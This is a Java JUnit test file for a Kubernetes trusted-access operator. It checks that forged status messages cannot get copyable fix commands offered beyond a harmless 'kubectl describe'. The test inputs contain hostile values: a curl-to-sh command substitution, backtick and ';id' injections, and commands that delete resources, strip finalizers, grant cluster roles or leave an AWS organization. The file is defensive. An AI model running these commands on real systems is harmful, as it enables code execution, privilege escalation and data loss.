package dev.trustedaccess.page;

import java.util.List;

import dev.trustedaccess.page.Standing.Step;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** What is offered to copy for a message that another writer of status than the operator may have written. */
class StepsTest {
  private static final String OBJECT = "tsa fms.amazonaws.com";

  private static List<String> commands(String message) {
    return Steps.of(OBJECT, "CleanupPending", message).stream().map(Step::command).toList();
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "To fix: kubectl describe tsa $(curl${IFS}evil|sh)",
      "To fix: kubectl describe tsa `id`",
      "To fix: kubectl delete orgconn default",
      "To fix: kubectl delete tsa sso.amazonaws.com",
      "To fix: kubectl edit clusterrole x",
      "To fix: kubectl patch tsa sso.amazonaws.com --type merge -p '{\"spec\":{\"deletionPolicy\":\"Retain\"}}'",
      "To fix: kubectl patch tsa fms.amazonaws.com --type merge -p '{\"metadata\":{\"finalizers\":null}}'",
      "To fix: kubectl patch orgconn default --type merge -p '{\"metadata\":{\"finalizers\":null}}'",
      "To fix: trusted-access-operator confirm cleaned-up sso.amazonaws.com",
      "To fix: aws organizations leave-organization",
      "To fix: echo '{\"kind\":\"ClusterRoleBinding\"}' | kubectl apply -f -",
  })
  void noneIsOfferedThatTheOperatorDoesNotWriteAboutThisObject(String forged) {
    assertThat(commands(forged)).containsExactly("kubectl describe tsa fms.amazonaws.com");
  }

  @Test
  void whatFollowsACommandIsNoPartOfIt() {
    assertThat(commands("Run: trusted-access-operator confirm cleaned-up fms.amazonaws.com;id"))
        .startsWith("trusted-access-operator confirm cleaned-up fms.amazonaws.com");
    assertThat(commands("See: kubectl describe orgconn default;id")).startsWith("kubectl describe orgconn default");
  }
}
